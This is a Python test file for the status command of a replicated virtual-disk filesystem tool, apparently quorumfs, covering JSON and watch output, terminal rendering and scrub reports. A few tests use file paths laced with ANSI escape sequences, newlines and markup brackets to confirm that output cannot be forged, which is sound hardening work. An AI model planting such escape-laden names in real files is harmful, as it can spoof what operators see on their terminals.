    """One object for one mount point named, whatever became of it; a list otherwise."""
    mounted = {"/x": error, MOUNTPOINT: DEGRADED}
    result = say("--json", "/x", mounted=mounted)
    expected = {
        "schema": 1,
        "mountpoint": "/x",
        "state": None,
        "problem": error.problem,
        "error": str(error),
        "owner": 0,
    }
    assert json.loads(result.output) == expected
    assert result.return_value is error.exit_code
    result = say("--json", MOUNTPOINT, mounted=mounted)
    assert Status.from_json(json.loads(result.output)) == DEGRADED
    for arguments in (["/x", MOUNTPOINT], []):
        result = say("--json", *arguments, mounted=mounted)
        assert json.loads(result.output) == [expected, shown(DEGRADED)]


def test_odd_paths_stay_on_their_line(say: Say) -> None:
    """A newline, an escape sequence or bytes that are no UTF-8 in a path forge nothing."""
    odd = os.fsdecode(b"/a\n\x1b[31m\xff.img")
    status = replace(HEALTHY, replicas=(replace(A, path=odd),))
    result = say(MOUNTPOINT, mounted={MOUNTPOINT: status})
    assert r"/a\n\x1b[31m\udcff.img  current" in result.output
    assert len(result.output.splitlines()) == 4


def test_watch_goes_on_until_ctrl_c(say: Say, monkeypatch: pytest.MonkeyPatch) -> None:
    """Without a terminal one picture after the other; it ends with the last state's exit code."""
    sleeps = iter([None, None])

    def sleep(_: float) -> None:
        try:
            next(sleeps)
        except StopIteration:
            raise KeyboardInterrupt from None

    monkeypatch.setattr(cli.time, "sleep", sleep)
    result = say("--watch", "--json", MOUNTPOINT, mounted={MOUNTPOINT: DEGRADED})
    assert [json.loads(line) for line in result.output.splitlines()] == [shown(DEGRADED)] * 3
    assert result.return_value is ExitCode.FAILED


# On a terminal


def here(mountpoint: str) -> mounts.Mount:
    """It is mounted, by us."""
    return mounts.Mount(mountpoint, mounts.FS_TYPE, os.geteuid())


def drawn(status: Status | client.ControlError, width: int, owner: int | None = None) -> str:
    answer = (
        Answer("/mnt/dead", None, status)
        if isinstance(status, client.ControlError)
        else Answer(status.mountpoint, status, owner=owner)
    )
    console = Console(file=io.StringIO(), force_terminal=True, width=width, highlight=False)
    with console.capture() as capture:
        console.print(picture(View([answer]), width))
    return capture.get()


def without_colours(text: str) -> str:
    return re.sub(r"\x1b\[[0-9;]*m", "", text)


@pytest.mark.parametrize("width", [60, 80, 120, 200])
def test_a_picture_fits_the_terminal_and_keeps_every_fact(width: int) -> None:
    picture = drawn(DEGRADED, width)
    assert "\x1b[" in picture
    text = without_colours(picture)
    assert all(len(line) <= width for line in text.splitlines())
    words = " ".join(text.split())
    for fact in ("/mnt/vdisk: degraded", "resyncing", "25 %", "31 s left", "3.0 GiB", "2 write"):
        assert fact in words
    assert "━" in text
    assert ("12.0 KiB" in words) == (width >= WIDE)


def test_a_narrow_terminal_shows_a_path_in_one_piece() -> None:
    """At 60 columns a table would leave it three, and a line for every three letters."""
    path = "/srv/images/of-some-length/b.img"
    lines = without_colours(drawn(with_replica(replace(B, path=path)), 60)).splitlines()
    assert f"  {path}: {B.state}" in [line.rstrip() for line in lines]
    counts = f"    {B.reads} reads, {B.writes} writes, {B.flushes} flushes, "
    assert any(line.startswith(counts) for line in lines)


def test_a_picture_takes_paths_as_they_are() -> None:
    """Brackets are no markup."""
    text = without_colours(drawn(with_replica(replace(B, path="/[red]/x[/].img")), 200))
    assert text.count("/[red]/x[/].img") == 3


def test_a_mount_that_does_not_answer_has_a_picture_too() -> None:
    assert without_colours(drawn(GONE, 100)).startswith("/mnt/dead: daemon-gone\n  the daemon of")


@given(statuses)
def test_every_status_can_be_shown(status: Status) -> None:
    text = plain(Answer(MOUNTPOINT, status))
    assert "\x1b" not in text
    text.encode("utf-8")
    without_colours(drawn(status, 100)).encode("utf-8")


def test_on_a_real_terminal_there_are_colours(monkeypatch: pytest.MonkeyPatch) -> None:
    """The whole way, through a pseudo-terminal."""
    reader, writer = pty.openpty()
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setattr(client, "find", here)
    answer_with(monkeypatch, lambda _: DEGRADED)
    with open(writer, "w", encoding="utf-8") as terminal:
        monkeypatch.setattr(sys, "stdout", terminal)
        exit_code = cli.status.main([MOUNTPOINT], standalone_mode=False)
        monkeypatch.undo()
    drawn = drawn_on(reader)
    os.close(reader)
    assert exit_code is ExitCode.FAILED
    assert "\x1b[" in drawn
    assert "/mnt/vdisk: degraded" in without_colours(drawn)


def drawn_on(terminal: int) -> str:
    """All that was written to the other side, which is closed."""
    parts = []
    with suppress(OSError):  # EIO: nothing is left
        while part := os.read(terminal, 1 << 16):
            parts.append(part)
    return b"".join(parts).decode()


def test_watch_redraws_a_terminal_in_place(monkeypatch: pytest.MonkeyPatch) -> None:
    """Over the last picture, not below it; Ctrl-C leaves the last one standing."""
    pictures = iter([DEGRADED, DEGRADED, HEALTHY])
    last = False

    def next_status(_: mounts.Mount) -> Status:
        nonlocal last
        status = next(pictures)
        last = status is HEALTHY
        return status

    def sleep(_: float) -> None:
        if last:
            raise KeyboardInterrupt

    reader, writer = pty.openpty()
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.setattr(client, "find", here)
    answer_with(monkeypatch, next_status)
    monkeypatch.setattr(cli.time, "sleep", sleep)
    with open(writer, "w", encoding="utf-8") as terminal:
        monkeypatch.setattr(sys, "stdout", terminal)
        exit_code = cli.status.main(["--watch", MOUNTPOINT], standalone_mode=False)
        monkeypatch.undo()
    drawn = drawn_on(reader)
    os.close(reader)
    assert exit_code is ExitCode.OK
    assert "\x1b[1A" in drawn  # up again, to draw over what is there
    assert without_colours(drawn).count("degraded") == 2
    assert "/mnt/vdisk: healthy" in without_colours(drawn)


# Scrubs

SCRUB = ScrubStatus(3, 5 << 30, 20 << 30, 100 << 20, 154, 2, 1, 0, 1, 1)
LAST = LastScrub(2, "2026-11-28T22:00:00Z", 3700, False, 4, 1, 1, 1, 3)


def test_a_scrub_is_shown_with_what_it_found() -> None:
    found = "2 mismatches, 1 repaired, 1 undecided, 1 left as they were"
    pace = "25 %, 5.0 GiB of 20.0 GiB"
    assert scrub_line(SCRUB) == f"scrub: {pace}, 100.0 MiB/s, 2 min 34 s left; {found}"
    assert scrub_line(replace(SCRUB, paused=True)) == f"scrub: {pace}, paused; {found}"
    waits = replace(SCRUB, waits="fewer than two replicas are current")
    assert "it waits: fewer than two" in scrub_line(waits)
    assert "unknown time left" in scrub_line(replace(SCRUB, eta_s=None))
    clean = replace(SCRUB, mismatches=0, repaired=0, undecided=0, unrepaired=0)
    assert scrub_line(clean).endswith("; 0 mismatches")


def test_the_last_scrub_and_the_next_are_shown() -> None:
    lines = scrub_lines(replace(HEALTHY, last_scrub=LAST, next_scrub="2026-12-28T22:00:00Z"))
    assert lines == [
        "last scrub ended 2026-11-28T22:00:00Z after 1 h 01 min: 4 mismatches, 1 unreadable, "
        "1 repaired, 1 undecided, 3 left as they were",
        "next scrub: 2026-12-28T22:00:00Z",
    ]
    assert scrub_lines(HEALTHY) == []
    (stopped,) = scrub_lines(replace(HEALTHY, last_scrub=replace(LAST, stopped=True)))
    assert stopped.startswith("last scrub was stopped")
    text = plain(Answer(MOUNTPOINT, replace(HEALTHY, scrub=SCRUB, last_scrub=LAST)))
    assert "  scrub: 25 %" in text
    assert "  last scrub ended" in text


def test_what_a_scrub_left_is_advised_on() -> None:
    """Not what a person must decide: that is told as such."""
    left = replace(HEALTHY, state=DiskState.DEGRADED, last_scrub=LAST)
    assert describe(left) == [
        "a scrub found a replica to be wrong in 2 blocks, which were left as they were: "
        f"quorumfs scrub --repair {MOUNTPOINT}"
    ]


def test_a_scrub_has_a_bar_on_a_terminal() -> None:
    console = Console(file=io.StringIO(), width=130, force_terminal=True, color_system=None)
    view = View([Answer(MOUNTPOINT, replace(HEALTHY, scrub=SCRUB))])
    console.print(picture(view, 130))
    assert isinstance(console.file, io.StringIO)
    lines = console.file.getvalue().splitlines()
    at = next(number for number, line in enumerate(lines) if "scrub: 25 %" in line)
    assert "━" in lines[at + 1]


def test_the_name_of_a_replica_reaches_no_terminal_raw_by_metrics() -> None:
    """It may come from the daemon of another user."""
    status = replace(HEALTHY, replicas=(replace(A, path="/nas/a\x1b[2J.img"), B))
    labels = [
        value
        for metric in metrics([Disk("/mnt/vdisk", status)])
        for sample in metric.samples
        for value in sample.labels.values()
    ]
    assert r"/nas/a\x1b[2J.img" in labels
    assert all(value.isprintable() for value in labels)
